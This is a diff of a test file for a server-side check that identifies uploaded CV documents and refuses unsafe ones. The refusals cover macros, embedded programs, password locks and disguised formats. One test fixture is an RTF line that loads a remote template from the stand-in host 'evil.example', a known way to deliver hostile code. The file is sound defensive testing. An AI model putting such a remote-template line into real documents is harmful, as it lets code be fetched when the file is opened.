@@ -1,8 +1,10 @@
+import { readFileSync } from 'node:fs';
 import { describe, expect, test } from 'vitest';
 import { compoundFile, doc, docx, pdf, WORD_PARTS, zip } from '#tests/support/documents.ts';
-import { detectDocument } from './document-kind.server.ts';
+import { examineDocument } from './document-kind.server.ts';
 
 const text = (content: string) => Buffer.from(content, 'latin1');
+const sample = (name: string) => readFileSync(`tests/support/documents/${name}`);
 const tablesOf = (file: Buffer, at: number, value: number) => {
   const changed = Buffer.from(file);
   changed.writeUInt32LE(value, at);
@@ -19,7 +21,33 @@ describe('a document is known by its content', () => {
       'pdf',
     ],
     ['PDF with the sign of an archive in it by chance', Buffer.concat([text('%PDF-1.7 PK\u0005\u0006'), pdf()]), 'pdf'],
+    [
+      'PDF behind a line of a printer',
+      Buffer.concat([text('\u001b%-12345X@PJL ENTER LANGUAGE=PDF\r\n'), pdf()]),
+      'pdf',
+    ],
+    [
+      'PDF behind a header of a mail server',
+      Buffer.concat([text('Content-Type: application/pdf\r\n\r\n'), pdf()]),
+      'pdf',
+    ],
+    ['PDF behind bytes that mean nothing', Buffer.concat([Buffer.alloc(1_000), pdf()]), 'pdf'],
+    ['PDF with much behind its end', Buffer.concat([pdf(), Buffer.alloc(9_000, '\0\r\n')]), 'pdf'],
+    [
+      'PDF with a page of a server behind its end',
+      Buffer.concat([pdf(), text('\n<!-- served -->'.repeat(200))]),
+      'pdf',
+    ],
+    ['PDF without an end mark', Buffer.from(pdf().toString('latin1').replace('%%EOF', ''), 'latin1'), 'pdf'],
+    [
+      'PDF in which an archive is attached as it is',
+      pdf(2_000, `stream\n${docx().toString('latin1')}\nendstream`),
+      'pdf',
+    ],
     ['DOC', doc(), 'doc'],
+    ['DOC that is RTF', sample('cv-rtf-called.doc'), 'doc'],
+    ['DOC that Word 2003 saved', sample('cv-saved-by-word-2003-control.doc'), 'doc'],
+    ['DOC that Word 2007 saved, with its theme as an archive', sample('cv-saved-by-word-2007-or-later.doc'), 'doc'],
     ['DOC with a long directory', doc(...Array.from({ length: 40 }, (_, index) => `Part ${index}`)), 'doc'],
     ['DOCX', docx(), 'docx'],
     [
@@ -28,7 +56,7 @@ describe('a document is known by its content', () => {
       'docx',
     ],
   ])('%s', async (_what, bytes, kind) => {
-    expect(await detectDocument(bytes)).toBe(kind);
+    expect(await examineDocument(bytes)).toEqual({ ok: true, kind, bytes });
   });
 });
 
@@ -66,6 +94,61 @@ describe('what is no document, or more than one', () => {
     ['a DOC whose table is elsewhere', tablesOf(doc(), 76, 0x00ffffff)],
     ['only the first bytes of a DOC', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
   ])('%s', async (_what, bytes) => {
-    expect(await detectDocument(bytes)).toBeNull();
+    expect(await examineDocument(bytes)).toMatchObject({ ok: false });
+  });
+});
+
+describe('a refusal says what the file is', () => {
+  const DOC_97 = sample('cv-saved-by-word-2003-control.doc');
+  const locked = Buffer.from(DOC_97);
+  locked.writeUInt16LE(
+    0x0100 | locked.readUInt16LE(DOC_97.indexOf(Buffer.from('eca5', 'hex')) + 10),
+    DOC_97.indexOf(Buffer.from('eca5', 'hex')) + 10,
+  );
+  test.each([
+    ['RTF with an object', text('{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}'), { fault: 'object_inside' }],
+    [
+      'RTF with a template from elsewhere',
+      text('{\\rtf1{\\*\\template http://evil.example/a.dotm}}'),
+      { fault: 'object_inside' },
+    ],
+    ['half an RTF', Buffer.concat([text('{\\rtf1\\ansi '), Buffer.alloc(3_000, 'x')]), { fault: 'incomplete' }],
+    ['a page', text('\n<html><body>CV</body></html>'), { fault: 'other', name: 'a web page' }],
+    [
+      'a page that Word saved',
+      text('<html xmlns:o="urn:schemas-microsoft-com:office:office">'),
+      { fault: 'other', name: 'a web page' },
+    ],
+    [
+      'a web archive',
+      text('MIME-Version: 1.0\r\nContent-Type: multipart/related'),
+      { fault: 'other', name: 'a web archive' },
+    ],
+    [
+      'Word XML',
+      text('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'),
+      { fault: 'other', name: 'a Word XML document' },
+    ],
+    ['a photo', Buffer.from('ffd8ffe000104a464946', 'hex'), { fault: 'other', name: 'a JPEG picture' }],
+    [
+      'ODT',
+      zip([{ name: 'mimetype', content: 'x' }, { name: 'META-INF/manifest.xml' }]),
+      { fault: 'other', name: 'an OpenDocument file (ODT)' },
+    ],
+    ['Pages', zip([{ name: 'Index/Document.iwa', content: 'x' }]), { fault: 'other', name: 'a Pages document' }],
+    ['an archive', zip([{ name: 'cv.pdf', content: 'x' }]), { fault: 'other', name: 'a ZIP archive' }],
+    ['a workbook', compoundFile(['Workbook']), { fault: 'other', name: 'an Excel workbook' }],
+    ['a DOCX with a password', compoundFile(['EncryptionInfo', 'EncryptedPackage']), { fault: 'locked' }],
+    ['a DOC with a password', locked, { fault: 'locked' }],
+    ['a DOC with macros', doc('Macros', 'VBA'), { fault: 'macros' }],
+    ['a DOCX with macros', docx({ name: 'word/vbaProject.bin' }), { fault: 'macros' }],
+    ['a DOCX with a program', docx({ name: 'word/embeddings/run.exe' }), { fault: 'program_inside' }],
+    ['half a PDF', pdf(2000).subarray(0, 900), { fault: 'incomplete' }],
+    ['half a DOCX', docx().subarray(0, 200), { fault: 'incomplete' }],
+    ['a PDF that is an archive', Buffer.concat([pdf(), docx()]), { fault: 'disguised' }],
+    ['a page before a PDF', Buffer.concat([text('<html>'), pdf()]), { fault: 'disguised' }],
+    ['noise', Buffer.alloc(600, 9), { fault: 'unknown' }],
+  ])('%s', async (_what, bytes, refusal) => {
+    expect(await examineDocument(bytes)).toEqual({ ok: false, ...refusal });
   });
 });
